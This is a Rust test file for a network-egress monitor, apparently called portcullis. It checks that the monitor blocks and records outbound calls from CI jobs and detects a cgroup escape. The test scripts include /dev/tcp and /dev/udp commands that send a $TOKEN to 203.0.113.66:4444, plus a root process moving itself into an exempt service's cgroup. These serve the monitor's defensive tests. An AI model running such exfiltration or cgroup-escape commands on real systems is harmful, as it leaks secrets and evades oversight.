//! Which sensors there are, what is weaker without them, and that a monitor serves all the same.

use anyhow::{Context, Result, ensure};
use portcullis_common::event::{
    DetectionType, Event, EventKind, Feature, FeatureState, RecordedDetection,
};
use portcullis_common::wire::HostCheck;
use portcullis_tests::gate::{Gate, policy, root_step, step};
use portcullis_tests::world::MonitorOptions;
use portcullis_tests::{Job, JobOutcome, World};
use std::process::Command;

fn feature<'features>(features: &'features [Feature], name: &str) -> Result<&'features Feature> {
    features.iter().find(|feature| feature.name == name).with_context(|| format!("no {name}"))
}

/// `monitor check --json` by way of another program that takes something away; nothing for as it is.
fn check(world: &World, wrapper: &[&str]) -> Result<HostCheck> {
    let monitor = portcullis_tests::binaries::find("monitor")?;
    let root = world.directory().join("check");
    let words: Vec<String> = wrapper
        .iter()
        .map(|word| (*word).to_owned())
        .chain([monitor.display().to_string()])
        .chain(["--root".to_owned(), root.display().to_string()])
        .chain(["check", "--json"].map(str::to_owned))
        .collect();
    let output = Command::new(&words[0]).args(&words[1..]).output()?;
    serde_json::from_slice(&output.stdout).with_context(|| format!("{output:?}"))
}

/// Each sensor is named with its state and a reason, and what can't be had is no reason not to serve.
#[test]
fn check_names_each_sensor_and_why_it_is_missing() -> Result<()> {
    let world = World::builder().build()?;
    let whole = check(&world, &[])?;
    for name in ["sensor-process", "sensor-memory"] {
        let found = feature(&whole.features, name)?;
        ensure!(found.state == FeatureState::Active, "{found:?}");
    }
    // Where BPF is refused, and where process numbers are not those that BPF programs see.
    let refused = ["setpriv", "--bounding-set", "-sys_admin,-bpf,-perfmon", "--inh-caps", "-all"];
    let elsewhere = ["unshare", "--pid", "--fork", "--mount-proc"];
    for (wrapper, why) in [(&refused[..], "not permitted"), (&elsewhere[..], "pid namespace")] {
        let less = check(&world, wrapper)?;
        let process = feature(&less.features, "sensor-process")?;
        ensure!(process.state == FeatureState::Degraded, "{process:?}");
        ensure!(process.reason.contains(why), "{process:?}");
        let memory = feature(&less.features, "sensor-memory")?;
        // fanotify needs CAP_SYS_ADMIN as well.
        let expected =
            if why == "not permitted" { FeatureState::Missing } else { FeatureState::Degraded };
        ensure!(memory.state == expected, "{memory:?}");
    }
    Ok(())
}

fn calls(events: &[Event]) -> Vec<&portcullis_common::event::NetworkEvent> {
    let network = events.iter().filter_map(|event| match &event.kind {
        EventKind::Network(call) => Some(call),
        _ => None,
    });
    network.filter(|call| call.port == Some(4444)).collect()
}

fn job(gate: &Gate, steps: Vec<portcullis_tests::job::Step>) -> Job {
    Job { steps, ..gate.job() }
}

/// The same job with each backend: the same calls are stopped and recorded; BPF tells of programs, too.
#[test]
fn both_backends_stop_and_record_the_same() -> Result<()> {
    for backend in ["bpf", "procfs"] {
        let mut gate = Gate::without(World::builder())?;
        gate.world().write_configuration(&format!("[sensors]\nbackend = \"{backend}\"\n"))?;
        gate.raise(&policy("block", &[]), MonitorOptions::default())?;
        let call = "for i in 1 2 3; do bash -c 'echo x >/dev/tcp/203.0.113.66/4444' || true; done; /bin/true one two";
        let result = gate.begin(&job(&gate, vec![step("call", call)]))?.wait()?;
        ensure!(result.outcome == JobOutcome::Success, "{backend}: {}", result.log());
        let events = gate.final_events()?;
        let calls = calls(&events);
        ensure!(calls.iter().map(|call| call.packets).sum::<u64>() == 3, "{backend}: {calls:?}");
        for call in calls {
            let process = call.process.as_ref().context("no process")?;
            ensure!(process.step.as_deref() == Some("call"), "{backend}: {process:?}");
            ensure!(
                process.argv.iter().any(|word| word.contains("4444")),
                "{backend}: {process:?}"
            );
        }
        let programs = events.iter().filter(|event| match &event.kind {
            EventKind::Process(executed) => executed.process.argv == ["/bin/true", "one", "two"],
            _ => false,
        });
        let expected = usize::from(backend == "bpf");
        ensure!(programs.count() == expected, "{backend}: programs are told");
        gate.assert_contained()?;
    }
    Ok(())
}

/// C4, T11: root in the job moves to the group of an exempt service, and sends. Nothing leaves, it is told, and the process is
/// brought back, where an allowed call works.
#[test]
fn a_process_that_moves_to_an_exempt_group_gains_nothing() -> Result<()> {
    let mut gate = Gate::without(World::builder())?;
    let (unit, exempt) = gate.world().create_unit("exempt")?;
    gate.world().write_configuration(&format!("[infrastructure]\nunits = [\"{unit}\"]\n"))?;
    gate.raise(&policy("block", &["ok.test:443"]), MonitorOptions::default())?;
    let send =
        "echo \"$TOKEN\" >/dev/tcp/203.0.113.66/4444; echo \"$TOKEN\" >/dev/udp/203.0.113.66/5555";
    let script = format!(
        "for i in $(seq 20); do bash -c 'echo $$ > {0}/cgroup.procs; {send}' || true; done 2>/dev/null\n\
         bash -c 'echo $$ > {0}/cgroup.procs; while grep -q exempt- /proc/self/cgroup; do :; done; curl -sS https://ok.test/ >/dev/null'",
        exempt.path().display()
    );
    let result = gate.begin(&job(&gate, vec![root_step("move", &script)]))?.wait()?;
    ensure!(result.outcome == JobOutcome::Success, "{}", result.log());
    let events = gate.final_events()?;
    let wanted = DetectionType::Recorded(RecordedDetection::CgroupEscape);
    let found: Vec<_> = events
        .iter()
        .filter_map(|event| match &event.kind {
            EventKind::Detection(found) if found.detection == wanted => Some(found),
            _ => None,
        })
        .collect();
    // The last one starts others while it waits to be moved back; what they are started in is its doing.
    let own = found.iter().filter(|found| !found.evidence.contains("it was moved by")).count();
    ensure!(own == 21, "{own} of 21 moves were told: {found:?}");
    ensure!(
        found.iter().all(|found| found
            .process
            .as_ref()
            .is_some_and(|process| { process.step.as_deref() == Some("move") })),
        "{found:?}"
    );
    gate.assert_contained()
}
